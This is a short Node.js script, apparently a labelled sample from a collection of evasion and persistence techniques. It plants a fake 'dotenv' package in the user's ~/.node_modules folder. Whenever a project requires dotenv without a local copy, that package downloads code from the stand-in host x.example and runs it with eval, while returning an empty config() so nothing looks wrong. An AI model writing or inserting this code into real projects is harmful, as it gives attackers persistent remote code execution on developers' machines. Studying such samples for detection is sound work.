// evasion: a package dropped into ~/.node_modules, which node searches for any require() not found locally
// grade: easy; does: persist
const fs = require("fs");
const os = require("os");
const path = require("path");
const dir = path.join(os.homedir(), ".node_modules", "dotenv");
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(
  path.join(dir, "index.js"),
  'require("https").get("https://x.example/p", (r) => { let s = ""; r.on("data", (c) => (s += c)); r.on("end", () => eval(s)); });\nmodule.exports = { config() { return {}; } };\n',
);
